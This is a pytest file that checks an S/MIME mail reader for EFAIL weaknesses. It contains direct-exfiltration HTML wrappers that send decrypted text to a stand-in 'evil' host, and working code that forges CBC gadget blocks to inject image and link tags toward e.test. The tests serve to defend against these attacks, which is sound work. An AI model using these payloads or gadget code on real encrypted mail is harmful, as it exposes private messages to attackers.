"""Check 42, row 28: EFAIL (Poddebniak et al., USENIX Security 2018), in a browser.

Direct exfiltration: the encrypted part stands in an attribute that the parts round it open and
close. Gadgets: CBC lets anybody who knows one block of the text write blocks of their own into it.
Nothing of an opened part may leave, and each part is a document of its own.
"""

import pytest
from asn1crypto import core

from smime.cms import AES_256_CBC, AES_256_GCM, encrypt
from smime.cms import asn1 as structures
from smime.reading import read_message
from tests.browser.rendering_site import MODES, Watched
from tests.checks.test_r43_spoofing import CASES, shown
from tests.smime.cms.messages import HEAD, mixed, opaque, pkcs7
from tests.smime.pki.people import context, world

pytestmark = pytest.mark.browser
CRAFTED = [name for name in CASES if name.startswith(("e02", "e05", "e07", "e08", "e09"))]
SECRET = b"Meet at the harbour at nine"
LETTER = (
    b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Dear Alice, hear this: "
    + SECRET
    + b"</p>\r\n"
)
BLOCK = 16  # octets of AES
TRIES = 200  # until the noise between the gadgets holds nothing that breaks the attack


def encrypted(entity: bytes = LETTER, cipher=AES_256_GCM) -> bytes:
    der = encrypt(entity, [world().bob.certificate], cipher=cipher)
    return pkcs7(der, "authEnveloped-data" if cipher.is_authenticated else "enveloped-data")


def html(source: str) -> bytes:
    return f"Content-Type: text/html\r\n\r\n{source}\r\n".encode()


# What stands before the encrypted part, and behind it.
AROUND = {
    "img double": ('<img src="{evil}/', '">'),
    "img single": ("<img src='{evil}/", "'>"),
    "img bare": ("<img src={evil}/", ">"),
    "link": ('<a href="{evil}/', '">click</a>'),
    "stylesheet": ('<link rel=stylesheet href="{evil}/', '">'),
    "style": ("<style>body{background:url({evil}/", ")}</style>"),
    "import": ("<style>@import '{evil}/", "';</style>"),
    "svg": ("<svg><image href='{evil}/", "'/></svg>"),
    "object": ('<object data="{evil}/', '"></object>'),
    "video": ('<video poster="{evil}/', '"></video>'),
    "base": ('<base href="{evil}/"><img src="', '">'),
    "form": (
        '<form action="{evil}/"><textarea name=t autofocus>',
        "</textarea><input type=submit>",
    ),
    "meta": ('<meta http-equiv=refresh content="0;url={evil}/', '">'),
    "iframe": ("<iframe srcdoc='<img src={evil}/", "'></iframe>"),
    "comment": ("<!--", "--><img src='{evil}/x'>"),
    "title": ("<title>", "</title><img src='{evil}/x'>"),
}


@pytest.mark.parametrize("form", AROUND)
def test_r42_direct_exfiltration_over_three_parts(form: str, tab: Watched) -> None:
    before, behind = AROUND[form]
    raw = HEAD + mixed(html(before), encrypted(), html(behind))
    keys = (world().bob,)
    for mode in MODES:
        assert tab.problems(raw, mode, keys=keys, context=context()) == [], mode
    documents = tab.site.show(raw, keys=keys, context=context()).made.documents
    secret = [each for each in documents.frames if SECRET.decode() in each]
    assert len(documents.frames) == 3
    assert len(secret) == 1
    assert tab.site.sink.origin not in secret[0]
    assert documents.images == ()


@pytest.mark.parametrize("kind", ["alternative", "related", "parallel", "digest"])
def test_r42_mixed_trees(kind: str, tab: Watched) -> None:
    """Whatever holds the parts together, and though the HTML outside names the encrypted one."""
    reference = html("<p>x</p><img src='cid:secret'><iframe src='cid:secret'></iframe>")
    inside = b"Content-ID: <secret>\r\n" + encrypted()
    raw = HEAD + mixed(reference, inside).replace(b"multipart/mixed", f"multipart/{kind}".encode())
    for mode in MODES:
        assert tab.problems(raw, mode, keys=(world().bob,), context=context()) == []
    made = tab.site.show(raw, keys=(world().bob,), context=context()).made
    assert sum(SECRET.decode() in each for each in made.documents.frames) == 1
    assert made.verdict.encryption.code == "partly-encrypted"
    assert not any("/part/" in each for each in made.documents.frames)


def with_gadgets(*chosen: bytes) -> bytes:
    """Write blocks into a CBC message whose first block is known: "Content-Type: te".

    Of (X, C1), X = IV xor P1 xor chosen, the second block opens as `chosen`; what X itself opens as
    is noise. The gadgets go behind the header, the letter's own blocks follow.
    """
    for _ in range(TRIES):
        der = _with_gadgets(chosen)
        opened = read_message(HEAD + pkcs7(der, "enveloped-data"), keys=(world().bob,)).content.raw
        noise = opened[HEADER:].partition(SECRET)[0]
        for block in chosen:
            noise = noise.replace(block, b"")
        if not set(noise) & set(b"\"'<>=/\r\n\0"):
            return der
    raise AssertionError("no gadget came out whole")


HEADER = -(-LETTER.index(b"<p>") // BLOCK) * BLOCK  # octets of the header's blocks, whole


def _with_gadgets(chosen: tuple[bytes, ...]) -> bytes:
    info = structures.ContentInfo.load(
        encrypt(LETTER, [world().bob.certificate], cipher=AES_256_CBC)
    )
    part = info["content"]["encrypted_content_info"]
    vector = part["content_encryption_algorithm"]["parameters"].native
    sent = part["encrypted_content"].native
    assert LETTER[:BLOCK] == b"Content-Type: te"
    known = bytes(a ^ b for a, b in zip(vector, LETTER[:BLOCK], strict=True))
    made = sent[:HEADER]
    for block in chosen:
        assert len(block) == BLOCK
        made += bytes(a ^ b for a, b in zip(known, block, strict=True)) + sent[:BLOCK]
    part["encrypted_content"] = core.OctetString(made + sent[HEADER - BLOCK :]).contents
    return info.dump(force=True)


GADGETS = {
    "image": (b'<img a="        ', b'" src="//e.test/'),
    "link": (b'<a b="          ', b'" href=//e.test/'),
}


@pytest.mark.parametrize("form", GADGETS)
@pytest.mark.parametrize("wrapped", ["whole", "part", "signed outside"])
def test_r42_gadgets(form: str, wrapped: str, tab: Watched) -> None:
    entity = pkcs7(with_gadgets(*GADGETS[form]), "enveloped-data")
    opened = read_message(HEAD + entity, keys=(world().bob,)).content.raw
    assert all(block in opened for block in GADGETS[form]), "the attack itself works"
    assert SECRET in opened
    raw = HEAD + {
        "whole": entity,
        "part": mixed(html("<p>x</p>"), entity),
        "signed outside": opaque(entity, world().mallory),
    }[wrapped]  # fmt: skip
    for mode in MODES:
        assert tab.problems(raw, mode, keys=(world().bob,), context=context()) == [], mode
    made = tab.site.show(raw, keys=(world().bob,), context=context()).made
    assert not any("<a " in each or "<img" in each for each in made.documents.frames)
    assert made.verdict.level != "ok"


def test_r42_gadgets_would_load_in_a_plain_reader(tab: Watched) -> None:
    """The same octets shown as they are: the request that the tests above do not see."""
    entity = pkcs7(with_gadgets(*GADGETS["image"]), "enveloped-data")
    opened = read_message(HEAD + entity, keys=(world().bob,)).content.raw
    tab.site.pages["/gadget"] = (
        {"Content-Type": "text/html"}, opened.partition(b"\r\n\r\n")[2] + b'">',
    )  # fmt: skip
    found = tab.open(f"{tab.site.origin}/gadget")
    assert any(what.startswith("loads http://e.test/") for what in found), found


@pytest.mark.corpus
@pytest.mark.parametrize("name", CRAFTED)
def test_r42_crafted_mails(name: str, tab: Watched) -> None:
    message = shown(tab, name)
    bare = [what for url in message.alone for what in tab.open(url)]
    assert (tab.open_framed(message), bare) == ([], [])
    assert message.made.verdict.level != "ok"
    assert message.made.documents.images == ()
